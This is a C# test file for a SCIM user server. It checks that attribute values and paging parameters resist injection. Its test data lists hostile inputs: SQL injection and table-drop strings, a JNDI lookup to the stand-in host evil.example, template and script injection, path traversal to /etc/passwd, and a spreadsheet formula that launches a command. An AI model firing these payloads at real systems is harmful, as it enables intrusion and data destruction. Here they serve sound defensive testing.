using System.Text.Json;
using System.Text.Json.Nodes;
using Rolecall.Domain.Workspaces;
using Rolecall.Server.Tests.Rfc7643;

namespace Rolecall.Server.Tests.Robustness;

/// <summary>R-31: text that means something to a database, a shell, a template or a page means nothing here.</summary>
public sealed class InjectedText(RunningServer server)
{
    [Theory, Spec("R-31", "P-3.4.2.2-21", "I-57")]
    [InlineData("') OR 1=1--")]
    [InlineData("'; drop table members; --")]
    [InlineData("' UNION SELECT hash FROM credentials --")]
    [InlineData("100%_\\%")]
    [InlineData("{{7*7}} ${jndi:ldap://evil.example/a} #{x}")]
    [InlineData("<img src=x onerror=alert(1)>&lt;")]
    [InlineData("../../etc/passwd")]
    [InlineData("=cmd|' /C calc'!A0")]
    [InlineData("@p0 :name ?1 $1 [x] {0}")]
    [InlineData("\\u0022 \" \\ / \\n")]
    [InlineData("null")]
    [InlineData("__proto__")]
    public async Task It_comes_back_unharmed_from_every_attribute_and_finds_only_itself(string text)
    {
        var workspace = await server.GivenWorkspaceAsync(Presets.Rfc);
        await workspace.GivenUserAsync("""{ "userName": "bystander", "title": "x", "name": { "givenName": "x" } }""");
        var bystander = await workspace.FindAsync("userName eq \"bystander\"");
        var attributes = (await PublishedAttribute.ReadAsync(workspace))
            .Where(one => one is { Mutability: "readWrite", Type: "string" or "reference", Urn: not Urns.Role })
            .ToArray();
        var body = new JsonObject();
        foreach (var one in attributes)
            Place(body, one, text);

        var created = await workspace.PostAsync("/Users", body.ToJsonString());

        Assert.Equal(201, created.Status);
        var literal = JsonSerializer.Serialize(text);
        foreach (var one in attributes)
        {
            Assert.Equal((one.Path, text), (one.Path, (string?)one.In(created.Body!)));
            Assert.Equal((one.Path, 1), (one.Path, (await workspace.FindAsync($"{one.Path} eq {literal}")).Total()));
            Assert.Equal((one.Path, 1), (one.Path, (await workspace.FindAsync($"{one.Path} co {literal}")).Total()));
        }

        Assert.Equal(bystander.Text, (await workspace.FindAsync("userName eq \"bystander\"")).Text);
    }

    [Theory, Spec("R-31", "R-26")]
    [InlineData("startIndex", "1;drop table members")]
    [InlineData("count", "1 or 1=1")]
    [InlineData("startIndex", "NaN")]
    [InlineData("count", "1e3")]
    [InlineData("count", "0x10")]
    [InlineData("startIndex", "\uFF11")]
    [InlineData("startIndex", "--1")]
    [InlineData("count", "1,2")]
    public async Task A_page_is_a_number_or_refused(string name, string value)
    {
        var workspace = await server.GivenWorkspaceAsync();

        (await workspace.GetAsync($"/Users?{name}={Uri.EscapeDataString(value)}")).AssertScimError(400, "invalidValue");
    }

    [Theory, Spec("R-26", "P-3.4.2.4-02", "P-3.4.2.4-03", "P-3.4.2.4-07")]
    [InlineData("startIndex=2147483647", 0)]
    [InlineData("startIndex=2147483648&count=2147483648", 0)]
    [InlineData("startIndex=99999999999999999999999999&count=99999999999999999999999999", 0)]
    [InlineData("startIndex=-99999999999999999999999999", 1)]
    [InlineData("count=-99999999999999999999999999", 0)]
    [InlineData("startIndex=+1&count=%2B1", 1)]
    [InlineData("startIndex=%201%20", 1)]
    public async Task Absurd_numbers_are_the_nearest_page(string query, int items)
    {
        var workspace = await server.GivenWorkspaceAsync();

        var list = await workspace.GetAsync("/Users?" + query);

        Assert.Equal((200, 1, items), (list.Status, list.Total(), list["Resources"]!.AsArray().Count));
    }

    private static void Place(JsonObject body, PublishedAttribute one, string text)
    {
        var holder = one.Urn is null ? body : In(body, one.Urn);
        if (one.Parent is { } parent)
        {
            var name = (string)parent["name"]!;
            if ((bool)parent["multiValued"]!)
                holder = (holder[name] ??= new JsonArray(new JsonObject())).AsArray()[0]!.AsObject();
            else
                holder = In(holder, name);
        }

        holder[one.Name] = text;
    }

    private static JsonObject In(JsonObject holder, string name) => (holder[name] ??= new JsonObject()).AsObject();
}
